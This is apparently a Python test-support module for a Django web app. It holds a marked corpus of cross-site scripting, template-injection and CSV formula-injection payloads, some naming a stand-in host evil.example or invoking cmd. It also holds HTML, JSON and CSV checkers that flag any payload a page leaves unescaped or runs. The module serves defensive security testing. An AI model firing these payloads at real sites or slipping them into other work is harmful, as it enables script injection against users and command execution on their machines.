"""A corpus of hostile text, and the checks a page showing it must pass.

Each payload carries its own marker, `xss` and two digits, so a page that shows it can be
found and a page that runs it can be named. The checks read a page the way a browser
would (html.parser), not with regular expressions over the source.
"""

from __future__ import annotations

import csv
import io
import json
import re
from dataclasses import dataclass, field
from html.parser import HTMLParser

from django.conf import settings


@dataclass(frozen=True)
class Payload:
    text: str
    what: str
    # Text that appears only if the payload was evaluated, e.g. template syntax run.
    forbidden: tuple[str, ...] = ()
    marker: str = field(init=False)

    def __post_init__(self) -> None:
        object.__setattr__(self, "marker", MARKER.search(self.text).group(0))


MARKER = re.compile(r"xss\d\d")
LONG = "Peaceful coexistence is competition between two systems. " * 90


def _corpus() -> list[Payload]:
    p = Payload
    return [
        # Script elements
        p("<script>alert('xss01')</script>", "script tag"),
        p("<ScRiPt>alert('xss02')</sCrIpT>", "mixed-case script tag"),
        p("<script src=//evil.example/xss03.js></script>", "external script"),
        p("<scr<script>ipt>alert('xss04')</scr</script>ipt>", "nested script to beat filters"),
        p("<script>alert('xss05')//", "unclosed script"),
        # Event handlers
        p("<img src=x onerror=alert('xss06')>", "img onerror"),
        p('<img src="x" onerror="alert(`xss07`)">', "quoted img onerror"),
        p("<svg onload=alert('xss08')>", "svg onload"),
        p("<svg><animate onbegin=alert('xss09') attributeName=x dur=1s>", "svg animate"),
        p("<body onload=alert('xss10')>", "body onload"),
        p("<input autofocus onfocus=alert('xss11')>", "autofocus onfocus"),
        p("<details open ontoggle=alert('xss12')>", "details ontoggle"),
        p("<x onclick=alert('xss13')>click me", "unknown element onclick"),
        p("<img src=x:alert(alt) onerror=eval(src) alt='xss14'>", "eval through src"),
        p("<svg><script>alert('xss15')</script></svg>", "script inside svg"),
        # URLs
        p("<a href=\"javascript:alert('xss16')\">xss16</a>", "javascript: link"),
        p("<a href=\"JaVaScRiPt:alert('xss17')\">xss17</a>", "mixed-case javascript: link"),
        p("<a href=\"&#106;avascript:alert('xss18')\">xss18</a>", "entity-encoded scheme"),
        p("<a href=\" &#14; javascript:alert('xss19')\">xss19</a>", "control char before scheme"),
        p("<iframe src=\"javascript:alert('xss20')\"></iframe>", "iframe javascript:"),
        p(
            '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">xss21</a>',
            "data: URL link",
        ),
        p("<object data=\"data:text/html,<script>alert('xss22')</script>\">", "object data:"),
        p("<embed src=\"javascript:alert('xss23')\">", "embed javascript:"),
        p("<form action=\"javascript:alert('xss24')\"><button>Go</button></form>", "form action"),
        p("<button formaction=\"javascript:alert('xss25')\">Go</button>", "formaction"),
        p(
            "<svg><a xlink:href=\"javascript:alert('xss26')\"><text>hi</text></a></svg>",
            "svg xlink:href",
        ),
        p("<meta http-equiv=refresh content=\"0;url=javascript:alert('xss27')\">", "meta refresh"),
        p("<base href=\"javascript:alert('xss28')//\">", "base href"),
        p("javascript:alert('xss29')", "bare javascript: URL"),
        p("data:text/html,<script>alert('xss30')</script>", "bare data: URL"),
        # Attribute breakouts
        p("\" onmouseover=\"alert('xss31')", "double-quote breakout"),
        p("' onmouseover='alert(\"xss32\")", "single-quote breakout"),
        p("\"><script>alert('xss33')</script>", "double quote, then script"),
        p("'><img src=x onerror=alert('xss34')>", "single quote, then img"),
        p("`><svg onload=alert('xss35')>", "backtick breakout"),
        p('https://evil.example/xss36"onmouseover="alert(1)', "URL with a quote breakout"),
        p("https://evil.example/xss37'><script>alert(1)</script>", "URL with a script"),
        # Closing the element the text sits in
        p("</textarea><script>alert('xss38')</script>", "closing textarea"),
        p("</title><script>alert('xss39')</script>", "closing title"),
        p("</script><script>alert('xss40')</script>", "closing script (JSON breakout)"),
        p("\"}]}</script><script>alert('xss41')</script>", "JSON string, then script"),
        p("</style><script>alert('xss42')</script>", "closing style"),
        p("<!--xss43--><script>alert(43)</script>", "comment, then script"),
        p("]]><script>alert('xss44')</script>", "CDATA end, then script"),
        p("<noscript><p title=\"</noscript><img src=x onerror=alert('xss45')>\">", "noscript mXSS"),
        p(
            "<math><mtext><table><mglyph><style><img src=x onerror=alert('xss46')>",
            "math mXSS",
        ),
        # Template syntax and |safe bait
        p("{{ 6|add:36 }}xss47", "template variable", forbidden=("42xss47",)),
        p("{% if 1 %}ran{% endif %}xss48", "template tag", forbidden=("ranxss48",)),
        p("{{ request.user.password }}xss49", "template context", forbidden=("md5$",)),
        p("{{ \"<script>alert('xss50')</script>\"|safe }}", "|safe bait"),
        p(
            "{% autoescape off %}<script>alert('xss51')</script>{% endautoescape %}",
            "autoescape off",
        ),
        p("{% load static %}{% get_static_prefix %}xss52", "template load", forbidden=("/xss52",)),
        # Unicode and odd characters
        p("\u202egnp.exe xss53 \u202d", "RTL override"),
        p("xss54\u202e<img src=x onerror=alert(54)>", "RTL override with a tag"),
        p("\uff1cscript\uff1ealert('xss55')\uff1c/script\uff1e", "fullwidth brackets"),
        p("xss56 \u200b\u200d\ufeff zero-width", "zero-width characters"),
        # Entities
        p("&lt;script&gt;alert('xss57')&lt;/script&gt;", "named entities"),
        p("&#60;img src=x onerror=alert('xss58')&#62;", "numeric entities"),
        p("&amp;lt;b&amp;gt;xss59", "double-encoded entities"),
        # CSS
        p("<div style=\"width: expression(alert('xss60'))\">x</div>", "CSS expression"),
        p(
            "<style>body{background:url(\"javascript:alert('xss61')\")}</style>",
            "style element",
        ),
        p("<p style=\"background:url(javascript:alert('xss62'))\">x</p>", "style url()"),
        # Markdown-ish (source text has a small Markdown subset)
        p("[xss63](javascript:alert('xss63'))", "Markdown link"),
        p("![xss64](x\" onerror=\"alert('xss64'))", "Markdown image"),
        p("<javascript:alert('xss65')>", "Markdown autolink"),
        p("**<b onclick=alert('xss66')>bold</b>**", "Markdown strong around HTML"),
        p("> <script>alert('xss67')</script>", "Markdown quote around a script"),
        p("*<img src=x onerror=alert('xss68')>*", "Markdown emphasis around img"),
        # Script-string breakouts (for any value a page's script might embed)
        p("xss69'; alert(1); //", "JS single-quote string breakout"),
        p('xss70"); alert(1); //', "JS double-quote string breakout"),
        p("\\u003cscript\\u003ealert('xss71')\\u003c/script\\u003e", "escaped unicode"),
        # Spreadsheet formulas (CSV exports)
        p('=HYPERLINK("http://evil.example/xss72","Click")', "formula ="),
        p("+SUM(1+1)*cmd|' /C calc'!A0 xss73", "formula +"),
        p("-2+3+cmd|' /C calc'!xss74", "formula -"),
        p("@SUM(1+1)xss75", "formula @"),
        # Sheer size
        p(f"<script>alert('xss76')</script>{LONG}", "very long text"),
        p('"<svg/onload=alert(1)>xss77"@evil.example', "quoted e-mail address"),
    ]


PAYLOADS = _corpus()
NULL_BYTE = Payload("nul\x00<script>alert('xss99')</script>", "null byte")
assert len({p.marker for p in PAYLOADS}) == len(PAYLOADS), "every payload needs its own marker"


# --- Reading a page ---------------------------------------------------------------------


URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "xlink:href",
    "data",
    "poster",
    "background",
    "srcdoc",
    "ping",
    "codebase",
    "cite",
    "lowsrc",
    "dynsrc",
}
BAD_SCHEMES = ("javascript:", "vbscript:", "data:text/html", "data:image/svg")
_INVISIBLE = re.compile(r"[\x00-\x20\x7f]+")


@dataclass
class Element:
    tag: str
    attrs: list[tuple[str, str | None]]
    line: int
    text: str = ""  # a script's or style's content


class PageReader(HTMLParser):
    """Every element, with its attributes decoded as a browser would decode them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[Element] = []
        self._raw: Element | None = None

    def handle_starttag(self, tag, attrs) -> None:
        element = Element(tag, attrs, self.getpos()[0])
        self.elements.append(element)
        if tag in ("script", "style"):
            self._raw = element

    def handle_startendtag(self, tag, attrs) -> None:
        self.elements.append(Element(tag, attrs, self.getpos()[0]))

    def handle_data(self, data) -> None:
        if self._raw is not None:
            self._raw.text += data

    def handle_endtag(self, tag) -> None:
        if self._raw is not None and tag == self._raw.tag:
            self._raw = None


def read_page(html: str) -> list[Element]:
    reader = PageReader()
    reader.feed(html)
    reader.close()
    return reader.elements


def _own_script_sources() -> tuple[str, ...]:
    from django.urls import reverse

    return (
        settings.STATIC_URL if settings.STATIC_URL.startswith("/") else "/" + settings.STATIC_URL,
        reverse("admin:jsi18n"),
        reverse("javascript-catalog") + "?",  # Coexist's own catalogue, in the page's language
    )


def html_problems(html: str, payloads: list[Payload]) -> list[str]:
    """What is wrong with a page that shows these payloads; empty when it is safe.

    - no element carries an on* attribute;
    - every script is the app's own: loaded from the static files (or the admin's
      translations), or JSON data (type application/json) that parses and holds each
      payload intact;
    - no URL attribute starts with javascript:, vbscript: or an HTML/SVG data: URL;
      no meta refresh, no base element, no style that runs script;
    - no payload appears as raw markup, and nothing a payload only yields when evaluated.
    """
    problems = []
    payloads = list({payload.marker: payload for payload in payloads}.values())
    own_sources = _own_script_sources()
    json_texts = []
    for element in read_page(html):
        attrs = dict(element.attrs)
        where = f"line {element.line}: <{element.tag}>"
        for name, value in element.attrs:
            if name.startswith("on"):
                problems.append(f"{where} has an event handler {name}={value!r}")
            if name in URL_ATTRIBUTES and value:
                squeezed = _INVISIBLE.sub("", value).lower()
                if squeezed.startswith(BAD_SCHEMES):
                    problems.append(f"{where} has {name}={value!r}")
            if name == "style" and value and re.search(r"expression\(|javascript:", value, re.I):
                problems.append(f"{where} has a style that runs script: {value!r}")
        if element.tag == "script":
            kind = (attrs.get("type") or "").lower()
            src = attrs.get("src") or ""
            if src:
                if not src.startswith(own_sources):
                    problems.append(f"{where} loads a script from {src!r}")
                if element.text.strip():
                    problems.append(f"{where} has both src and inline code: {element.text[:80]!r}")
            elif kind == "application/json":
                json_texts.append(element.text)
                problems += _json_problems(element.text, payloads, where)
            else:
                problems.append(f"{where} is an inline script: {element.text[:80]!r}")
        elif element.tag == "style" and MARKER.search(element.text):
            problems.append(f"{where} is a style element holding a payload: {element.text[:80]!r}")
        elif element.tag == "meta" and (attrs.get("http-equiv") or "").lower() == "refresh":
            problems.append(f"{where} is a meta refresh: {attrs.get('content')!r}")
        elif element.tag == "base":
            problems.append(f"{where} is a base element: {attrs.get('href')!r}")
    outside_json = html
    for text in json_texts:
        outside_json = outside_json.replace(text, "")
    for payload in payloads:
        raw = payload.text.strip()
        if "<" in raw and raw in outside_json:
            problems.append(f"{payload.marker} ({payload.what}) is on the page unescaped")
        for evaluated in payload.forbidden:
            if evaluated in html:
                problems.append(f"{payload.marker} ({payload.what}) was evaluated: {evaluated!r}")
    return problems


def _json_problems(text: str, payloads: list[Payload], where: str) -> list[str]:
    try:
        data = json.loads(text)
    except ValueError as error:
        return [f"{where} holds JSON that does not parse ({error}): {text[:80]!r}"]
    by_marker = {payload.marker: payload for payload in payloads}
    intact: dict[str, bool] = {}
    for string in _strings(data):
        for marker in set(MARKER.findall(string)):
            if marker in by_marker:
                whole = by_marker[marker].text.strip() in string
                intact[marker] = intact.get(marker, False) or whole
    return [
        f"{where}: JSON changed {marker} ({by_marker[marker].what})"
        for marker, whole in intact.items()
        if not whole
    ]


def json_problems(body: bytes | str, payloads: list[Payload], where: str) -> list[str]:
    """A JSON answer: it parses, and every payload in it is intact; any HTML fragment
    in it (keys ending in _html) passes the page checks."""
    try:
        data = json.loads(body)
    except ValueError as error:
        return [f"{where}: not JSON ({error})"]
    problems = _json_problems(json.dumps(data), payloads, where)
    for key, value in data.items() if isinstance(data, dict) else ():
        if key.endswith("_html") and isinstance(value, str):
            problems += [f"{where} {key}: {p}" for p in html_problems(value, payloads)]
    return problems


def _strings(data):
    """Every string in JSON data but messages (words about the data, which may quote a
    shortened part of it) and HTML fragments (checked as HTML)."""
    if isinstance(data, str):
        yield data
    elif isinstance(data, dict):
        for key, value in data.items():
            yield key
            if key != "message" and not key.endswith("_html"):
                yield from _strings(value)
    elif isinstance(data, list):
        for value in data:
            yield from _strings(value)


# --- Reading a spreadsheet ---------------------------------------------------------------

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_problems(body: str, where: str) -> list[str]:
    """Cells a spreadsheet program would run as a formula."""
    dialect = "excel-tab" if body.count("\t") > body.count(",") else "excel"
    rows = csv.reader(io.StringIO(body.lstrip("\ufeff")), dialect=dialect)
    return [
        f"{where} row {number} column {column}: {cell[:60]!r}"
        for number, row in enumerate(rows, start=1)
        for column, cell in enumerate(row, start=1)
        if cell.startswith(FORMULA_STARTS)
    ]
